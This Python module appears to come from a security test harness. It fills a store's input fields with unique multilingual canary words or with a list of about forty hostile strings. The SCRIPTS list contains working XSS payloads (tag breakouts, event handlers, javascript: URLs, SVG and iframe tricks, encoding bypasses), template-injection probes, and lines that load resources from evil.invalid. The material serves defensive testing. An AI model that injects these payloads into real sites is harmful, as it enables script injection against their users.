"""What is written into a store that is to be attacked: canaries to look for, or hostile text."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Protocol

LATIN = ("qov", "zub", "wrix", "jhav", "fyd", "kwel", "pza", "mjor")
CYRILLIC = ("жыр", "щап", "өзүк", "цөң", "фёл", "ңгай", "вышк", "дюжь")
ARABIC = ("قظ", "غچو", "ضپا", "ثعگ", "خژي", "شطف", "ذهق", "صيغ")


class Voice(Protocol):
    """Says something for each place where a person can write."""

    def say(self, slot: str) -> str: ...

    def many(self, slot: str) -> tuple[str, ...]:
        """Something for a place that takes several rows, such as names."""
        ...


def word(number: int, parts: tuple[str, ...] = LATIN) -> str:
    """An invented word that stands nowhere else; another one for each number."""
    digits = [number % 8, number // 8 % 8, number // 64 % 8, (number * 3 + 1) % 8]
    return "".join(parts[digit] for digit in digits)


@dataclass
class Canaries:
    """A word of its own for each slot, in each of three scripts, and remembers which."""

    seed: int = 0
    spoken: dict[str, tuple[str, ...]] = field(default_factory=dict)

    def words(self, slot: str) -> tuple[str, ...]:
        if slot not in self.spoken:
            number = self.seed * 100 + len(self.spoken)
            self.spoken[slot] = tuple(word(number, s) for s in (LATIN, CYRILLIC, ARABIC))
        return self.spoken[slot]

    def say(self, slot: str) -> str:
        return " ".join(self.words(slot))

    def many(self, slot: str) -> tuple[str, ...]:
        if slot in {"document", "phone"}:
            return (self.number(slot),)
        return self.words(slot)

    def number(self, slot: str) -> str:
        """Figures nothing else has; a Kyrgyz number for a telephone."""
        apart = 7919 * (self.seed + 1) + (104_729 if slot == "phone" else 0)
        figures = str(739184620573 + apart)[-9:]
        self.spoken[slot] = (figures,)
        return f"+996 {figures[:3]} {figures[3:]}" if slot == "phone" else f"QX{figures}"

    def of(self, *slots: str) -> set[str]:
        return {each for slot in slots for each in self.words(slot)}

    def __iter__(self) -> Iterator[str]:
        return (each for words in self.spoken.values() for each in words)


SCRIPTS = (
    "<script>pwned('{n}')</script>",
    "</textarea><script>pwned('{n}')</script>",
    "</title><script>pwned('{n}')</script>",
    "--><script>pwned('{n}')</script><!--",
    "]]><script>pwned('{n}')</script>",
    "</style><script>pwned('{n}')</script>",
    "</option></select><img src=x onerror=pwned('{n}')>",
    "\"><script>pwned('{n}')</script>",
    "'><script>pwned('{n}')</script>",
    '" onmouseover="pwned(\'{n}\')" x="',
    "' onfocus='pwned(1)' autofocus x='",
    "` onload=`pwned('{n}')",
    "<img src=x onerror=pwned('{n}')>",
    "<IMG SRC=javascript:pwned('{n}')>",
    "<svg onload=pwned('{n}')>",
    "<svg><script>pwned('{n}')</script></svg>",
    "<svg/onload=pwned('{n}')//",
    "<math><mi xlink:href=javascript:pwned(1)>x</mi></math>",
    "<iframe srcdoc=\"<script>parent.pwned('{n}')</script>\"></iframe>",
    "<iframe src=javascript:pwned('{n}')></iframe>",
    "<object data=javascript:pwned('{n}')></object>",
    "<embed src=javascript:pwned('{n}')>",
    "<body onload=pwned('{n}')>",
    "<details open ontoggle=pwned('{n}')>x</details>",
    "<video><source onerror=pwned('{n}')></video>",
    "<input autofocus onfocus=pwned('{n}')>",
    "<form action=javascript:pwned(1)><button>x</button></form>",
    "<a href=javascript:pwned('{n}')>press</a>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned(1)'>",
    "<base href=//evil.invalid/>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css'</style>",
    "<div hx-get=//evil.invalid/ hx-trigger=load hx-on::load=pwned(1)>x</div>",
    "<template><script>pwned('{n}')</script></template>",
    "<scr<script>ipt>pwned('{n}')</scr</script>ipt>",
    "＜script＞pwned('{n}')＜/script＞",
    "&lt;script&gt;pwned('{n}')&lt;/script&gt;",
    "&#60;script&#62;pwned('{n}')&#60;/script&#62;",
    "{{ 7777|add:1 }}{% debug %}{% load i18n %}",
    "${7777*1}#{7777*1}<%= 7777 %>",
    "[press](javascript:pwned('{n}')) **b** ![x](x\" onerror=\"pwned(1))",
    "\u202e<gpj.tpircs>\u202c",
    "\u200f\u2066</bdi><script>pwned('{n}')</script>\u2069",
    "javascript:pwned('{n}')",
)


@dataclass
class Scripts:
    """Every hostile string in every place."""

    def say(self, slot: str) -> str:
        return "\n".join(self.many(slot))

    def many(self, slot: str) -> tuple[str, ...]:
        return tuple(text.replace("{n}", slot) for text in SCRIPTS)
